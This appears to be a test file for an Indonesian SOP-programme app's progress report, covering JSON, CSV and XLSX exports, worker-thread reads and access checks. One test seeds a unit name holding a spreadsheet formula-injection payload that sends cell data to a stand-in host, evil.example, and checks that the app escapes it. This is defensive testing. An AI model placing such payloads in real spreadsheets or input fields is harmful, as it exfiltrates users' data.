import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { buildTestApp, expectProblem, type TestApp } from '../helpers/app';
import { seedPeriod } from '../helpers/asistensi';

let t: TestApp;
beforeEach(async () => (t = await buildTestApp({ now: '2013-10-01T00:00:00Z' })));
afterEach(() => t.app.close());

it('reports every unit’s officials, drafts and asistensi, as JSON and as CSV', async () => {
  const { programme, period, slot } = await seedPeriod(t);
  const dishub = await t.make.unit({ code: 'DISHUB', name: 'Dinas Perhubungan' });
  const kel = await t.make.unit({ code: 'KEL-TD', name: 'Kelurahan Teluk Dalam, Banjarmasin Tengah', kind: 'kelurahan' });
  const idle = await t.make.unit({ code: 'ZZ-IDLE', name: 'Kantor Arsip', kind: 'kantor' });
  const batch = await t.make.batch(programme.id);
  const enrolments = [];
  for (let i = 0; i < 3; i++) {
    const p = await t.make.participant(dishub.id);
    enrolments.push((await t.organiser.post(`/batches/${batch.id}/enrolments`, { participantId: p.id })).body);
  }
  t.clock.set('2013-10-07T09:00:00+08:00');
  await t.organiser.put(`/enrolments/${enrolments[0].id}/attendance`, { date: '2013-10-07', present: true });
  await t.organiser.put(`/enrolments/${enrolments[1].id}/attendance`, { date: '2013-10-07', present: false });
  const draft = (await t.organiser.post(`/programmes/${programme.id}/drafts`, { unitId: dishub.id, title: 'Draft 1', sopCount: 4, receivedAt: '2013-09-20T09:00:00+08:00' })).body;
  await t.organiser.post(`/programmes/${programme.id}/drafts`, { unitId: dishub.id, title: 'Draft 2', sopCount: 2, receivedAt: '2013-09-25T09:00:00+08:00' });
  await t.organiser.patch(`/drafts/${draft.id}`, { status: 'final' });
  const booking = (await t.organiser.post(`/asistensi-periods/${period.id}/bookings`, { unitId: dishub.id, slotId: slot('2013-10-22', '13:00').id })).body;
  t.clock.set('2013-10-24T09:00:00+08:00');
  await t.organiser.put(`/bookings/${booking.id}/attendance`, { attended: true });
  await t.organiser.post(`/asistensi-periods/${period.id}/walk-ins`, { unitId: kel.id, date: '2013-10-23' });

  const res = await t.organiser.get(`/programmes/${programme.id}/progress`);
  expect(res.status).toBe(200);
  const byCode = Object.fromEntries(res.body.units.map((u: any) => [u.code, u]));
  expect(byCode.DISHUB).toEqual({
    unitId: dishub.id,
    code: 'DISHUB',
    name: 'Dinas Perhubungan',
    kind: 'dinas',
    participantsConfirmed: 3,
    participantsAttended: 1,
    draftCount: 2,
    draftStatus: 'final',
    draftReceivedAt: '2013-09-20T09:00:00+08:00',
    asistensi: 'attended',
    asistensiDate: '2013-10-22',
    asistensiStart: '13:00',
  });
  expect(byCode['KEL-TD']).toMatchObject({ participantsConfirmed: 0, draftStatus: null, asistensi: 'walk_in', asistensiDate: '2013-10-23', asistensiStart: null });
  expect(byCode['ZZ-IDLE']).toMatchObject({ unitId: idle.id, asistensi: 'none', draftCount: 0 });
  expect(res.body.totals).toEqual({
    units: 3,
    participantsConfirmed: 3,
    participantsAttended: 1,
    unitsWithDraft: 1,
    draftStatus: { submitted: 0, received: 0, reviewed: 0, final: 1, enacted: 0 },
    asistensi: { attended: 1, walk_in: 1, booked: 0, none: 1 },
  });

  // A spreadsheet in Indonesian by default: local dates and times, the programme's name.
  const csv = await t.organiser.get(`/programmes/${programme.id}/progress?format=csv`);
  expect(csv.status).toBe(200);
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(csv.headers['content-disposition']).toBe(`attachment; filename="progres-program-${programme.id}.csv"`);
  const lines = (csv.body as string).replace(/^\uFEFF/, '').split('\r\n');
  expect(lines[0]).toBe('Program,Kode unit,Nama unit,Jenis,Pejabat terdaftar,Pejabat hadir,Jumlah draft,Status draft,Draft diterima,Asistensi,Jadwal asistensi');
  expect(lines[1]).toBe('Penyusunan SOP 2013,DISHUB,Dinas Perhubungan,Dinas,3,1,2,Draf final,2013-09-20 09:00,Sudah asistensi,2013-10-22 13:00');
  expect(lines[2]).toBe('Penyusunan SOP 2013,KEL-TD,"Kelurahan Teluk Dalam, Banjarmasin Tengah",Kelurahan,0,0,0,,,Datang langsung,2013-10-23');
  expect(lines).toHaveLength(5);
  const english = ((await t.organiser.get(`/programmes/${programme.id}/progress?format=csv&lang=en`)).body as string).split('\r\n');
  expect(english[0]).toBe('\uFEFFProgramme,Unit code,Unit name,Kind,Officials confirmed,Officials attended,Drafts,Draft status,Draft received,Asistensi,Asistensi at');
  expect(english[1]).toContain(',Attended,2013-10-22 13:00');

  // And as XLSX: one sheet of units with date cells, one of totals.
  const xlsx = await t.app.inject({ url: `/programmes/${programme.id}/progress?format=xlsx`, headers: { authorization: `Bearer ${t.organiserKey}` } });
  expect(xlsx.statusCode).toBe(200);
  expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx.rawPayload as never);
  const units = workbook.getWorksheet('Unit kerja')!;
  expect(units.getRow(1).getCell(2).value).toBe('Kode unit');
  expect(units.getRow(2).getCell(2).value).toBe('DISHUB');
  expect(units.getRow(2).getCell(5).value).toBe(3);
  expect(units.getRow(2).getCell(9).value).toEqual(new Date(Date.UTC(2013, 8, 20, 9, 0)));
  expect(units.getRow(2).getCell(11).value).toEqual(new Date(Date.UTC(2013, 9, 22, 13, 0)));
  expect(units.getColumn(3).width).toBeGreaterThan(20);
  const summary = workbook.getWorksheet('Ringkasan')!;
  expect([summary.getRow(1).values, summary.getRow(2).values].map((v) => (v as unknown[]).slice(1))).toEqual([
    ['Unit kerja', 3],
    ['Pejabat terdaftar', 3],
  ]);
});

it('reads the XLSX’s report in the worker thread over its own connection when the database is a file, with what was just written', async () => {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'progress-file-'));
  const onFile = await buildTestApp({ now: '2013-10-01T00:00:00Z', databasePath: path.join(folder, 'sop.db') });
  try {
    const programme = await onFile.make.programme();
    const dishub = await onFile.make.unit({ code: 'DISHUB', name: 'Dinas Perhubungan' });
    const batch = await onFile.make.batch(programme.id);
    for (let i = 0; i < 2; i++) await onFile.organiser.post(`/batches/${batch.id}/enrolments`, { participantId: (await onFile.make.participant(dishub.id)).id });
    // Written the moment before the download: the worker's connection sees every commit.
    await onFile.make.unit({ code: 'KEL-TD', name: 'Kelurahan Teluk Dalam', kind: 'kelurahan' });

    const xlsx = await onFile.app.inject({ url: `/programmes/${programme.id}/progress?format=xlsx`, headers: { authorization: `Bearer ${onFile.organiserKey}` } });
    expect({ status: xlsx.statusCode, body: xlsx.statusCode === 200 ? '' : xlsx.body }).toEqual({ status: 200, body: '' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as never);
    const rows = workbook.getWorksheet('Unit kerja')!.getSheetValues().slice(2).map((row) => (row as unknown[]).slice(2, 6));
    expect(rows).toEqual([
      ['DISHUB', 'Dinas Perhubungan', 'Dinas', 2],
      ['KEL-TD', 'Kelurahan Teluk Dalam', 'Kelurahan', 0],
    ]);
    expect(onFile.app.services.workerPool.stats().workers).toBeGreaterThan(0);
  } finally {
    await onFile.app.close();
    onFile.database.close();
    fs.rmSync(folder, { recursive: true, force: true });
  }
});

it('writes names that look like formulas as text in its spreadsheets', async () => {
  const programme = await t.make.programme();
  await t.make.unit({ code: 'EVIL', name: '=HYPERLINK("http://evil.example/?"&A1,"klik")' });
  const csv = (await t.organiser.get(`/programmes/${programme.id}/progress?format=csv`)).body as string;
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`);
  const xlsx = await t.app.inject({ url: `/programmes/${programme.id}/progress?format=xlsx`, headers: { authorization: `Bearer ${t.organiserKey}` } });
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx.rawPayload as never);
  expect(workbook.getWorksheet('Unit kerja')!.getRow(2).getCell(3).value).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"klik")`);
});

it('is organiser-only and checks its input', async () => {
  const programme = await t.make.programme();
  const unit = await t.make.unit();
  expectProblem(await t.as(await t.unitKey(unit.id)).get(`/programmes/${programme.id}/progress`), 403, 'FORBIDDEN');
  expectProblem(await t.organiser.get(`/programmes/${programme.id}/progress?format=pdf`), 400, 'VALIDATION_FAILED');
  expectProblem(await t.organiser.get(`/programmes/${programme.id}/progress?format=csv&lang=fr`), 400, 'VALIDATION_FAILED');
  expectProblem(await t.organiser.get('/programmes/99/progress'), 404, 'NOT_FOUND');
});
